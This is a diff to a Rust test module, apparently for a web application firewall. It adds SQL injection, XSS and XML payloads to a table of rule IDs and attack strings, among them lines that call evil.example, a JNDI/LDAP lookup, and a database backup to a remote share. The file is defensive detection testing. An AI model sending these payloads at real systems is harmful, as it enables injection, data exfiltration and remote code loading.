@@ -1739,6 +1739,16 @@ mod tests {
             (932230, "&& sysinfo"),
             (942101, "'; return true; var x='"),
             (942101, "admin'; drop table users--"),
+            (942360, "select @@version"),
+            // An unclosed HTML comment hides nothing after it.
+            (942100, "<!--' or 1=1--"),
+            (941110, "<!--<script>alert(1)</script>"),
+            (941160, "<![CDATA[<img src=x>"),
+            (941160, "<xml id=i src=\"http://evil.example/x.xml\">"),
+            (
+                942360,
+                "BACKUP database master to disk='\\\\10.0.0.1\\share\\db.dat'",
+            ),
             (
                 944150,
                 "&#x24;&#0000000000000000000000000123;jndi:ldap://evil.example/w}",
